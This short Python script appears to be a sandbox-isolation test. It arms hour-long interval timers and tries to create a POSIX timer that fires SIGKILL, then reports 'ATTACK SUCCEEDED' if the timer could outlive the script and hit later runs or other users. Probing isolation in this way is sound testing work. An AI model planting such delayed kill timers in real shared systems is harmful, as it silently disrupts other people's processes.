# ruff: noqa
# ends: no_figure
"""Alarms and timers that would ring in the next script or in somebody else."""

import ctypes
import signal

signal.signal(signal.SIGALRM, signal.SIG_IGN)
for which in (signal.ITIMER_REAL, signal.ITIMER_VIRTUAL, signal.ITIMER_PROF):
    try:
        signal.setitimer(which, 3600, 3600)
    except OSError as error:
        print(error)
event = (ctypes.c_int64 * 8)(0, 9 | (0 << 32))
if ctypes.CDLL(None, use_errno=True).timer_create(0, event, ctypes.byref(ctypes.c_void_p())) == 0:
    print("ATTACK SUCCEEDED: a timer that kills")
